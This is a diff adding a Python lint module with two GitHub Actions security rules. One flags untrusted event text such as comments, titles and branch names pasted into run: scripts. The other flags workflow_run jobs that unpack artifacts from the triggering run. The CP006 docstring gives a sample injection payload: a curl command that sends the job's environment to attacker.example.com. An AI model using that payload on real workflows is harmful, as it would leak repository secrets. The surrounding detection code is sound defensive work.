@@ -1,0 +1,149 @@
+"""Text and files from outside used as code in GitHub Actions: an expression naming what an
+outsider wrote, pasted into a script; a workflow_run job that trusts the triggering run's
+artifacts."""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Iterator
+
+from sandkit.lint.facts.workflows import Job, jobs, secret_refs, triggers, workflow
+from sandkit.lint.kinds import ACTION, WORKFLOW
+from sandkit.lint.model import Hit
+from sandkit.lint.registry import rule
+from sandkit.lint.source import SourceFile
+from sandkit.lint.syntax.tree import PMap, PStr
+
+_EXPRESSION = re.compile(r"\$\{\{(.{0,500}?)\}\}", re.S)
+#: Context values anyone who opens an issue, comments, names a branch or writes a commit sets.
+_OUTSIDER_TEXT = re.compile(
+    r"github\s*\.\s*event\s*\.\s*(?:"
+    r"(?:issue|pull_request|discussion)\s*\.\s*(?:title|body)|"
+    r"(?:comment|review|review_comment)\s*\.\s*body|"
+    r"pages\s*\.\s*[^.\s]+\s*\.\s*page_name|"
+    r"(?:commits\s*\.\s*[^.\s]+|head_commit)\s*\.\s*(?:message|author\s*\.\s*(?:email|name))|"
+    r"pull_request\s*\.\s*head\s*\.\s*(?:ref|label|repo\s*\.\s*default_branch)|"
+    r"workflow_run\s*\.\s*(?:head_branch|display_title|head_commit\s*\.\s*(?:message|author\s*\.\s*(?:email|name))|"
+    r"pull_requests\s*\.\s*[^.\s]+\s*\.\s*head\s*\.\s*ref)"
+    r")\b|github\s*\.\s*head_ref\b"
+)
+_SCRIPT_ACTIONS = ("actions/github-script",)
+#: Downloading the triggering run's artifacts: the official action given its run id, the
+#: community action, ``gh run download`` or github-script's artifact API.
+_DOWNLOAD_ACTIONS = ("actions/download-artifact", "dawidd6/action-download-artifact")
+_RUN_ARTIFACT = re.compile(r"gh\s+run\s+download|listWorkflowRunArtifacts|downloadArtifact|/artifacts/[^\s]*/zip")
+
+
+def _scripts(file: SourceFile) -> Iterator[PStr]:
+    """``run:`` strings and actions/github-script ``script:`` inputs."""
+    for node in file.mappings():
+        run = node.get("run")
+        if isinstance(run, PStr):
+            yield run
+        uses, with_ = node.get("uses"), node.get("with")
+        if isinstance(uses, str) and uses.lower().startswith(_SCRIPT_ACTIONS) and isinstance(with_, PMap):
+            script = with_.get("script")
+            if isinstance(script, PStr):
+                yield script
+
+
+@rule(
+    "CP006",
+    "untrusted-text-in-script",
+    category="ci-permissions",
+    severity="high",
+    kinds=(WORKFLOW, ACTION),
+    triggers=("${{",),
+)
+def untrusted_text_in_script(file: SourceFile) -> Iterator[Hit]:
+    """An expression naming text an outsider wrote is pasted into a `run:` script.
+
+    `${{ github.event.comment.body }}`, an issue's, pull request's or discussion's title or
+    body, a review's body, commit messages and author names, a branch name
+    (`github.head_ref`, `pull_request.head.ref`, workflow_run's `head_branch`) and wiki
+    page names, in a `run:` step or an actions/github-script `script:`. The expression is
+    replaced by its text before the shell (or JavaScript) reads the script.
+
+    Why:
+    A comment or branch name such as `"; curl -d "$(env)" https://attacker.example.com #`
+    becomes a command of the script, run with the job's token and secrets: on a comment or
+    pull_request_target workflow, by anyone.
+
+    Fix:
+    Pass the value through the environment (`env: {BODY: ${{ github.event.comment.body }}}`)
+    and use `"$BODY"` in the script, quoted.
+    """
+    for script in _scripts(file):
+        if "${{" not in script:
+            continue
+        for match in _EXPRESSION.finditer(script):
+            named = _OUTSIDER_TEXT.search(match.group(1))
+            if named is not None:
+                text = " ".join(named.group(0).split())
+                yield Hit(file.str_pos(script, match.start()), f"{text} is pasted into a script as code")
+
+
+def _downloads_trigger_artifact(step: PMap) -> PStr | None:
+    uses, run, with_ = step.get("uses"), step.get("run"), step.get("with")
+    inputs = with_ if isinstance(with_, PMap) else PMap(step.pos)
+    if isinstance(uses, PStr):
+        name = uses.split("@", 1)[0].lower()
+        if name.startswith(_DOWNLOAD_ACTIONS[1]):
+            return uses
+        if name.startswith(_DOWNLOAD_ACTIONS[0]) and "workflow_run" in str(inputs.get("run-id") or ""):
+            return uses
+        script = inputs.get("script")
+        if name.startswith(_SCRIPT_ACTIONS) and isinstance(script, PStr) and _RUN_ARTIFACT.search(script):
+            return script
+    if isinstance(run, PStr) and _RUN_ARTIFACT.search(run) and "workflow_run" in run:
+        return run
+    return None
+
+
+def _privileged(file: SourceFile, doc: PMap, job: Job) -> bool:
+    perms = job.spec.get("permissions", doc.get("permissions"))
+    writes = perms == "write-all" or (isinstance(perms, PMap) and "write" in perms.values())
+    return writes or any(True for _ in secret_refs(file, job.spec))
+
+
+@rule(
+    "CP007",
+    "workflow-run-artifact",
+    category="ci-permissions",
+    severity="medium",
+    kinds=(WORKFLOW,),
+    triggers=("workflow_run",),
+)
+def workflow_run_artifact(file: SourceFile) -> Iterator[Hit]:
+    """A workflow_run job downloads the artifacts of the run that triggered it.
+
+    actions/download-artifact with a `run-id` from `github.event.workflow_run`,
+    dawidd6/action-download-artifact, `gh run download` of the triggering run, or
+    github-script's artifact API, in a workflow started by `workflow_run`. High when the
+    job holds secrets or write scopes (or inherits write-all); medium otherwise.
+
+    Why:
+    The triggering run may be a fork's pull request: its code wrote the artifact. The
+    workflow_run job runs with the base repository's token and secrets, so an artifact that
+    is unpacked over the workspace, executed, sourced or written to `$GITHUB_ENV` runs the
+    fork's code with them.
+
+    Fix:
+    Treat the artifact as data: download it to a folder outside the workspace (such as
+    `${{ runner.temp }}`), validate what you read from it (a number is a number), and never
+    run, source or append it to `$GITHUB_ENV`.
+    """
+    doc = workflow(file)
+    if doc is None or "workflow_run" not in triggers(doc):
+        return
+    for job in jobs(doc):
+        privileged = _privileged(file, doc, job)
+        for step in job.steps:
+            found = _downloads_trigger_artifact(step)
+            if found is not None:
+                holds = "with secrets or write scopes" if privileged else "without secrets"
+                yield Hit(
+                    found.pos,
+                    f'job "{job.name}" unpacks artifacts of the triggering run (a fork can write them) {holds}',
+                    severity="high" if privileged else "",
+                )
